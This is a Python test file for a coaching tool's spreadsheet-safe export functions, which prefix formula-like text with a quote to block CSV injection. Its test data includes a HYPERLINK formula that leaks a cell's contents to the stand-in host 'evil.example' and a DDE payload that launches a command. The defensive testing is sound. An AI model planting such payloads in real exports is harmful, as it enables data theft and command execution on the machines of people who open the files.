"""Spreadsheet-safe exports (OWASP CSV injection): text that a spreadsheet would run as a formula is quoted with a
leading ``'``; numbers, dates and ordinary text are written as they are."""

from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pytest

from coaching.cli.outcomes import write_rows
from coaching.exports import FORMULA_STARTS, csv_text, frame_csv, safe_cell, safe_frame

DANGEROUS = ('=HYPERLINK("http://evil.example/?leak="&A1,"open")', "@SUM(1+1)", "-2+3", "+1", "\t=1", "\r=1")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_gets_a_leading_quote_and_keeps_its_characters(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_listed_start_is_neutralised(start: str) -> None:
    assert str(safe_cell(f"{start}x")).startswith("'")


@pytest.mark.parametrize("value", ["Aino Virtanen", "team-north", "a=b", "x-1", "", "'=already quoted", "ä@x"])
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, -0.5, 0, 12, -math.inf, True, False, None])
def test_numbers_and_empty_cells_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) is value


def test_csv_text_quotes_strings_only_and_keeps_negative_numbers() -> None:
    rows = [{"agent": "=cmd|' /C calc'!A0", "nps": -25.0, "n": 4, "note": "-2+3", "extra": "=ignored"}]
    lines = read(csv_text(rows, ["agent", "nps", "n", "note", "missing"]))
    assert lines[0] == ["agent", "nps", "n", "note", "missing"]
    assert lines[1] == ["'=cmd|' /C calc'!A0", "-25.0", "4", "'-2+3", ""]


def test_formula_like_column_names_are_neutralised_too() -> None:
    assert read(csv_text([{"=A1": 1}], ["=A1"]))[0] == ["'=A1"]


def test_cli_csv_output_goes_through_the_safe_writer() -> None:
    out = io.StringIO()
    rows = [{"agent": text, "team": "t", "nps": -50} for text in DANGEROUS]
    write_rows(rows=rows, columns=["agent", "team", "nps"], fmt="csv", out=out)
    body = read(out.getvalue())[1:]
    assert [r[0] for r in body] == ["'" + text for text in DANGEROUS]
    assert {r[2] for r in body} == {"-50"}


def test_cli_json_and_table_output_are_not_spreadsheets_and_keep_the_text() -> None:
    out = io.StringIO()
    write_rows(rows=[{"agent": "=1+1"}], columns=["agent"], fmt="json", out=out)
    assert '"=1+1"' in out.getvalue()


def test_frame_csv_neutralises_text_columns_and_keeps_numbers_and_dates() -> None:
    frame = pd.DataFrame(
        {
            "agent": ["@SUM(1)", "Emma", None],
            "score": [-3.5, 80.0, None],
            "n": [-1, 2, 3],
            "when": pd.to_datetime(["2026-11-02", "2026-11-03", "2026-11-04"]),
            "flags": ["+coach reviewed", "", "-x"],
        }
    )
    lines = read(frame_csv(frame).decode("utf-8"))
    assert lines[0] == ["agent", "score", "n", "when", "flags"]
    assert [r[0] for r in lines[1:]] == ["'@SUM(1)", "Emma", ""]
    assert [r[1] for r in lines[1:]] == ["-3.5", "80.0", ""]
    assert [r[2] for r in lines[1:]] == ["-1", "2", "3"]
    assert [r[3] for r in lines[1:]] == ["2026-11-02", "2026-11-03", "2026-11-04"]
    assert [r[4] for r in lines[1:]] == ["'+coach reviewed", "", "'-x"]


def test_a_carriage_return_inside_a_cell_does_not_split_the_row() -> None:
    frame = pd.DataFrame({"comment": ["first\rsecond", "a\r\nb"], "n": [1, 2]})
    assert read(frame_csv(frame).decode("utf-8"))[1:] == [["first\rsecond", "1"], ["a\r\nb", "2"]]
    assert read(csv_text([{"comment": "x\ry", "n": 1}], ["comment", "n"]))[1:] == [["x\ry", "1"]]


def test_safe_frame_leaves_the_shown_frame_alone() -> None:
    frame = pd.DataFrame({"=name": ["=1"]})
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=name"] and safe.iloc[0, 0] == "'=1"
    assert list(frame.columns) == ["=name"] and frame.iloc[0, 0] == "=1"


def test_an_xlsx_written_from_a_safe_frame_holds_text_not_formulas(tmp_path: object) -> None:
    from pathlib import Path

    import openpyxl

    path = Path(str(tmp_path)) / "out.xlsx"
    safe_frame(pd.DataFrame({"agent": ["=1+1", "ok"], "n": [-2, 3]})).to_excel(path, index=False)
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    assert [c.data_type for c in sheet["A"][1:]] == ["s", "s"]
    assert sheet["A2"].value == "'=1+1" and sheet["B2"].value == -2
